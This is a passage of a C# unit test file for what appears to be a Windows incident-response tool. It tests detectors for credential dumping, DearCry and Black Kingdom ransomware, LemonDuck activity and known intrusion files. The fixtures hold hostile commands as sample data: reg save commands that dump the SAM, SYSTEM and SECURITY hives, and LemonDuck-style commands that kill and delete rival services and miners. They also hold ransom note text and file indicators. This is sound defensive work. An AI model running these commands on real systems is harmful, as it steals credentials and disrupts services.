        Assert.Equal(Severity.Critical, finding.Severity);
        Assert.Equal("credentials.hives-saved", finding.Detector);
        Assert.Equal(3, finding.Evidence.Count);
    }

    [Fact]
    public void Dumps_archives_and_scripts_are_judged_by_content()
    {
        var at = new EvidencePointer(@"C:\inetpub\a");
        var findings = Run(new StolenSecretsDetector(),
            new MemoryDump { At = at, Path = @"C:\root\x.bin", SizeBytes = 1, WrittenUtc = null, Modules = ["lsass.exe", "ntdll.dll", "lsasrv.dll"] },
            new MemoryDump { At = at, Path = @"C:\root\y.dmp", SizeBytes = 1, WrittenUtc = null, Modules = ["w3wp.exe", "ntdll.dll"] },
            new ArchiveListing { At = at, Path = @"C:\x.cab", Format = "cab", SizeBytes = 1, Members = ["ip.txt", "arp.txt", "system", "security"] },
            new ArchiveListing { At = at, Path = @"C:\y.zip", Format = "zip", SizeBytes = 1, Members = ["readme.md", "system.dll"] },
            new LooseText { At = at, Path = @"C:\Windows\Temp\xx.bat", Role = "script", Text = "reg save hklm\\sam sam.h\r\nreg save hklm\\system system.h\r\nreg save hklm\\security security.h" },
            new LooseText { At = at, Path = @"C:\scripts\backup.bat", Role = "script", Text = "robocopy D:\\data E:\\backup /MIR" });
        Assert.Equal(["credentials.lsass-dump", "credentials.archive", "credentials.dump-script"], findings.Select(finding => finding.Detector));
    }

    [Fact]
    public void Ransomware_is_told_by_its_marks_notes_and_service()
    {
        var at = new EvidencePointer(@"C:\a");
        var findings = Run(new RansomwareDetector(),
            new MarkedFile { At = at, Path = @"D:\data\a.docx.CRYPT", Mark = "DEARCRY!", SizeBytes = 5 },
            new LooseText { At = at, Path = @"C:\readme.txt", Role = "note", Text = "Your file has been encrypted!\nkonedieyp@airmail.cc or uenwonken@memail.com" },
            new LooseText { At = at, Path = @"C:\decrypt_file.TxT", Role = "note", Text = "send to 1Lf8ZzcEhhRiXpk6YNQFpCJcUisiXb34FT" },
            new LooseText { At = at, Path = @"C:\setup\readme.txt", Role = "note", Text = "This product is licensed" });
        Assert.Equal(["ransomware.black-kingdom", "ransomware.dearcry", "ransomware.dearcry"], findings.Select(finding => finding.Detector).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void Bulk_deletion_of_rivals_is_told_and_an_administrators_single_deletion_is_not()
    {
        var start = new DateTime(2021, 3, 20, 1, 0, 0, DateTimeKind.Utc);
        var names = new[] { "Mysa", "Mysa1", "Sorry", "Oracle Java Update", "ok", "WindowsUpdate1", "Update2" };
        var burst = names.Select((name, i) => (Record)Event("Security", 4699, start.AddSeconds(i), ("TaskName", $@"\{name}")));
        Assert.Equal("lemonduck.competitor-cleanup", Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), burst)).Detector);
        Assert.Empty(Run(new LemonDuckDetector(KnowledgeBase.Embedded), Event("Security", 4699, start, ("TaskName", @"\Update"))));
    }

    [Theory]
    [InlineData(@"sc.exe stop xWinWpdSrv&sc.exe delete xWinWpdSrv", @"""C:\WINDOWS\system32\sc.exe"" delete ""Windows Managers""", @"cmd /c taskkill /F /IM xmrig-notls.exe", @"TASKKILL /im ""conhoste.exe"" /f", @"SCHTASKS.EXE /Delete /F /TN ""\Microsoft\Mysa2""")]
    [InlineData(@"schtasks /TN Mysa /Delete /F", @"schtasks /delete /tn Sorry /f", @"sc config SRDSL start= disabled", @"sc delete Xtfyxxx", @"sc delete mssecsvc2.0")]
    public void Ended_services_and_programs_of_rivals_count_with_deleted_tasks(params string[] commands)
    {
        var start = new DateTime(2021, 5, 20, 1, 0, 0, DateTimeKind.Utc);
        var finding = Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), commands.Select((command, i) => (Record)Event("Security", 4688, start.AddSeconds(i), ("CommandLine", command)))));
        Assert.Equal(("lemonduck.competitor-cleanup", "5"), (finding.Detector, finding.Details.First(detail => detail.Key == "ofRivals").Value));
    }

    [Fact]
    public void Deleted_services_of_rivals_tell_without_any_event()
    {
        var gone = ((string[])["WinHelp32", "WinHelp64", "SRDSL", "Sougoudl", "xWinWpdSrv"]).Select(name => (Record)(Item("service", name, "unknown") with { IsDeleted = true })).ToArray();
        Assert.Equal("lemonduck.competitor-cleanup", Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), gone)).Detector);
    }

    [Fact]
    public void An_administrator_who_ends_services_and_programs_is_no_rival()
    {
        var start = new DateTime(2021, 5, 20, 1, 0, 0, DateTimeKind.Utc);
        string[] commands = [@"sc.exe stop MSExchangeTransport", @"sc config Spooler start= disabled", @"taskkill /f /im w3wp.exe", @"taskkill /im WerFault.exe", @"sc stop AxInstSV", @"schtasks /delete /tn ""\Contoso\Old report"" /f"];
        Assert.Empty(Run(new LemonDuckDetector(KnowledgeBase.Embedded), commands.Select((command, i) => (Record)Event("Security", 4688, start.AddSeconds(i), ("CommandLine", command)))));
    }

    [Fact]
    public void A_closed_hole_is_a_lead_alone_and_a_trace_beside_others()
    {
        var setting = Item("setting", @"HKLM\SYSTEM\X\LanmanServer\Parameters\DisableCompression", "unknown", ("value", "DisableCompression"), ("data", "1"));
        Assert.Equal(Severity.Medium, Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), setting)).Severity);
        Assert.Equal(Severity.High, Assert.Single(Run(new LemonDuckDetector(KnowledgeBase.Embedded), setting, Task(@"\blackball", "blackball"))).Severity);
    }

    [Theory]
    [InlineData(@"C:\Windows\Temp\creds.db", "intrusion.known-file")]
    [InlineData(@"C:\Windows\Help\s1.exe", "ransomware.dearcry")]
    [InlineData(@"C:\Users\Public\Opera\Opera_browser.exe", "intrusion.known-file")]
    [InlineData(@"C:\ProgramData\VSPerfMon", "intrusion.known-file")]
    [InlineData(@"C:\Windows\Temp\cw.exe", "intrusion.known-file")]
    [InlineData(@"C:\ProgramData\add64s.exe", "intrusion.known-file")]
    [InlineData(@"C:\Windows\ServiceProfiles\NetworkService\AppData\Local\Temp\msmodl.dat", "intrusion.known-file")]
    [InlineData(@"C:\Windows\Temp\godmali4.txt", "lemonduck.file")]
    [InlineData(@"D:\Games\Opera_browser.exe", null)]
    [InlineData(@"D:\Mail\msmodl.dat", null)]
    public void Files_of_known_intrusions_count_in_their_folder(string path, string? detector) =>
        Assert.Equal(detector, Run(new KnownFileDetector(FileIndicators.Embedded), new MarkedFile { At = new EvidencePointer(path), Path = path, SizeBytes = 1 }).SingleOrDefault()?.Detector);

    [Fact]
    public void Known_names_count_only_in_their_folders()
    {
        var at = new EvidencePointer(@"C:\a");
        MarkedFile File(string path) => new() { At = at, Path = path, SizeBytes = 1 };
        var findings = Run(new KnownFileDetector(FileIndicators.Embedded), File(@"C:\Windows\Temp\m6.bin"), File(@"C:\firmware\m6.bin"), File(@"C:\inetpub\wwwroot\ChackLogsPL.aspx"), File(@"C:\x\errorFE.aspx"));
        Assert.Equal(["lemonduck.file", "ransomware.black-kingdom"], findings.Select(finding => finding.Detector));
    }

    [Fact]
    public void Every_finding_has_a_title_in_both_languages()
    {
        foreach (var language in (string[])["en", "fr"])
        {
            var texts = KnowledgeBase.Embedded.Texts(language);
            foreach (var id in (string[])["persistence.scheduled-task", "persistence.wmi-subscription", "lemonduck.task", "credentials.hives-saved", "ransomware.dearcry", "defence.mitigation-rules", "intrusion.known-file", "intrusion.known-hash"])
                Assert.True(texts.Has($"finding.{id}.title"));
        }
    }
}
